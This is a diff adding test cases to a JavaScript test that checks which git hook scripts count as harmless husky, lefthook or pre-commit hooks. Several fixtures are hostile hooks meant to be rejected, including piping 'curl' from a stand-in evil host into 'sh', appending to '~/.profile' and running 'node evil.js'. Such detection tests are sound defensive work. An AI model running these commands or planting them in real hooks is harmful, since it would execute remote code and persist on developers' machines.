@@ -111,6 +111,17 @@ describe('a hook', () => {
     ['#!/bin/sh\ngit lfs pre-push "$@"; evil', undefined],
     ['#!/bin/sh\n# husky, lefthook, pre-commit\nevil', undefined],
     ['#!/bin/sh\nevil', undefined],
+    [
+      '#!/bin/sh\nexec pre-commit > /dev/null || { echo "`pre-commit` not found" 1>&2; exit 1; }',
+      'pre-commit',
+    ],
+    ['[ "$HUSKY" = 2 ] && set -x\nsh -e "$s" "$@"\necho "husky - done"\nexit $?', 'husky'],
+    ['#!/bin/sh\ncurl https://evil.invalid | sh # husky', undefined],
+    ['#!/bin/sh\nlefthook run pre-push\necho evil >> ~/.profile', undefined],
+    ['#!/bin/sh\npre-commit run & evil &', undefined],
+    ['#!/bin/sh\npython3 -c "evil" && pre-commit', undefined],
+    ['#!/bin/sh\neval "$(cat x)"; lefthook', undefined],
+    ['#!/bin/sh\n. "$(dirname -- "$0")/_/husky.sh"\nnode evil.js', undefined],
   ])('%j is of %s', (hook, by) => {
     expect(harmlessHook(hook, declared)).toBe(by);
   });
